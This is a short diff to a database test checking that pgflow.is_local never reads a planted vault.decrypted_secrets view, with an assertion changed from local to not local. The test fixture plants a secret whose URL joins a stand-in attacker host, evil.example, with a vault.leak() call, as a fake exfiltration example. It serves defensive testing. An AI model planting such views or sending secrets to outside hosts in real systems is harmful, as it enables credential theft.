@@ -143,7 +143,8 @@ dbTest("a planted vault.decrypted_secrets is never read", async (db) => {
       select 'edgeflow_functions_url'::text as name, 'https://evil.example/' || vault.leak() as decrypted_secret;`;
   await asPlanter(db, plant, async () => {
     const [{ local }] = await db.sql`select pgflow.is_local() as local`;
-    assert.equal(local, true, "no trusted functions URL: local");
+    // The planted URL is not read (it would say remote); nothing else says local.
+    assert.equal(local, false, "no trusted functions URL and no local JWT secret: not local");
     await assertNeverRan(db.sql);
   });
 });
